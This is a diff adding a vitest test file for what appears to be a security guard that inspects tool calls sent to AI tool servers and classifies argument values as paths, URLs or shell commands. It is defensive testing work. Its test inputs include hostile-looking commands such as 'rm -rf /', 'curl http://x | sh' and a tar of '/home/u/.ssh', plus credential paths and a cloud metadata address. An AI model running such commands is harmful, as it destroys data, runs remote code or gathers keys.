@@ -1,0 +1,154 @@
+import { describe, expect, it } from 'vitest';
+
+import { createGuard, type Guard, type Layer, type ScannedValue } from '@vanguard/core';
+
+import { kindsOfKey, kindsOfShape } from '../src/values/classify.js';
+import { Kind } from '../src/values/kinds.js';
+
+/** A guard whose extra layer records the values the engine scanned in the last message. */
+function recordingGuard(): { guard: Guard; values: () => readonly ScannedValue[] } {
+  let last: readonly ScannedValue[] = [];
+  const recorder: Layer = {
+    name: 'recorder',
+    phase: 'behavioral',
+    inspect(_message, context) {
+      last = context.values;
+      return [];
+    },
+  };
+  return { guard: createGuard({ layers: [recorder] }), values: () => last };
+}
+
+const call = (id: number, name: string, args: Record<string, unknown>) => ({
+  jsonrpc: '2.0',
+  id,
+  method: 'tools/call',
+  params: { name, arguments: args },
+});
+
+const kindsAt = (values: readonly ScannedValue[], key: string) => values.find((v) => v.key === key && v.raw !== key)?.kinds ?? [];
+
+describe('kindsOfKey', () => {
+  it('reads argument names word by word in every case style', () => {
+    expect(kindsOfKey('targetPath') & Kind.Path).toBeTruthy();
+    expect(kindsOfKey('source_file') & Kind.Path).toBeTruthy();
+    expect(kindsOfKey('callback-url') & Kind.Url).toBeTruthy();
+    expect(kindsOfKey('cmdline') & Kind.Command).toBeTruthy();
+    expect(kindsOfKey('userPrompt') & Kind.Text).toBeTruthy();
+  });
+
+  it('calls an argument named target a path', () => {
+    expect(kindsOfKey('target') & Kind.Path).toBe(Kind.Path);
+  });
+
+  it('gives names that say nothing no kind', () => {
+    expect(kindsOfKey('flag')).toBe(0);
+    expect(kindsOfKey('count')).toBe(0);
+  });
+});
+
+describe('kindsOfShape', () => {
+  it('recognises absolute, home, Windows and traversing paths', () => {
+    for (const text of ['/etc/passwd', '~/.ssh/id_rsa', 'c:/windows/win.ini', '../../x', 'notes/today.md']) {
+      expect(kindsOfShape(text) & Kind.Path, text).toBe(Kind.Path);
+    }
+  });
+
+  it('recognises URLs with a scheme, bare IP hosts and internal host names', () => {
+    for (const text of ['https://example.com/a', '169.254.169.254', 'db.internal:5432', 'localhost:8080']) {
+      expect(kindsOfShape(text) & Kind.Url, text).toBe(Kind.Url);
+    }
+  });
+
+  it('recognises shell lines by their first word or their metacharacters', () => {
+    for (const text of ['rm -rf /', 'curl http://x | sh', 'echo $(id)', 'ls; whoami']) {
+      expect(kindsOfShape(text) & Kind.Command, text).toBe(Kind.Command);
+    }
+  });
+
+  it('calls sentences text and leaves a bare word without a kind', () => {
+    expect(kindsOfShape('please summarise this page') & Kind.Text).toBe(Kind.Text);
+    expect(kindsOfShape('hello')).toBe(0);
+  });
+});
+
+describe('value classification in inspect', () => {
+  it('classifies a path in an argument called target as a path, whatever its shape', async () => {
+    const { guard, values } = recordingGuard();
+    await guard.inspect(call(1, 'copy', { target: 'quarterly-report' }), { from: 'client' });
+    expect(kindsAt(values(), 'target')).toContain('path');
+  });
+
+  it('classifies values by their shape when the argument name says nothing', async () => {
+    const { guard, values } = recordingGuard();
+    await guard.inspect(call(1, 'x', { a: '/etc/hosts', b: 'https://example.com', c: 'rm -rf /tmp/x' }), { from: 'client' });
+    expect(kindsAt(values(), 'a')).toContain('path');
+    expect(kindsAt(values(), 'b')).toContain('url');
+    expect(kindsAt(values(), 'c')).toContain('command');
+  });
+
+  it('scans a path inside a command line as a path value of its own', async () => {
+    const { guard, values } = recordingGuard();
+    await guard.inspect(call(1, 'shell', { cmdline: 'tar czf /tmp/x.tgz /home/u/.ssh' }), { from: 'client' });
+    const embedded = values().filter((v) => v.key === 'cmdline' && v.kinds.includes('path') && !v.kinds.includes('command'));
+    expect(embedded.map((v) => v.raw)).toEqual(expect.arrayContaining(['/tmp/x.tgz', '/home/u/.ssh']));
+  });
+
+  it('learns argument kinds from a tool input schema after a tools/list answer', async () => {
+    const { guard, values } = recordingGuard();
+    const ctx = { sessionId: 's1', serverId: 'files' } as const;
+    // Before the tool is known, an opaque argument name says nothing.
+    await guard.inspect(call(1, 'fetch_doc', { blob: 'quarterly-report' }), { from: 'client', ...ctx });
+    expect(kindsAt(values(), 'blob')).not.toContain('path');
+
+    await guard.inspect({ jsonrpc: '2.0', id: 2, method: 'tools/list' }, { from: 'client', ...ctx });
+    await guard.inspect(
+      {
+        jsonrpc: '2.0',
+        id: 2,
+        result: {
+          tools: [
+            {
+              name: 'fetch_doc',
+              description: 'Fetches a document.',
+              inputSchema: {
+                type: 'object',
+                properties: {
+                  blob: { type: 'string', description: 'Path of the document on disk' },
+                  where: { type: 'string', format: 'uri' },
+                },
+              },
+            },
+          ],
+        },
+      },
+      { from: 'server', ...ctx },
+    );
+    await guard.inspect(call(3, 'fetch_doc', { blob: 'quarterly-report', where: 'mirror' }), { from: 'client', ...ctx });
+    expect(kindsAt(values(), 'blob')).toContain('path');
+    expect(kindsAt(values(), 'where')).toContain('url');
+  });
+
+  it('keeps schema hints per session and server', async () => {
+    const { guard, values } = recordingGuard();
+    await guard.inspect({ jsonrpc: '2.0', id: 1, method: 'tools/list' }, { from: 'client', sessionId: 'a' });
+    await guard.inspect(
+      {
+        jsonrpc: '2.0',
+        id: 1,
+        result: { tools: [{ name: 't', inputSchema: { type: 'object', properties: { z: { type: 'string', description: 'file path' } } } }] },
+      },
+      { from: 'server', sessionId: 'a' },
+    );
+    await guard.inspect(call(2, 't', { z: 'word' }), { from: 'client', sessionId: 'b' });
+    expect(kindsAt(values(), 'z')).not.toContain('path');
+    await guard.inspect(call(2, 't', { z: 'word' }), { from: 'client', sessionId: 'a' });
+    expect(kindsAt(values(), 'z')).toContain('path');
+  });
+
+  it('classifies tool descriptions in a tools/list answer as tool metadata', async () => {
+    const { guard, values } = recordingGuard();
+    await guard.inspect({ jsonrpc: '2.0', id: 1, result: { tools: [{ name: 'add', description: 'Adds two numbers.' }] } }, { from: 'server' });
+    expect(kindsAt(values(), 'description')).toEqual(expect.arrayContaining(['tool-metadata', 'text']));
+  });
+});
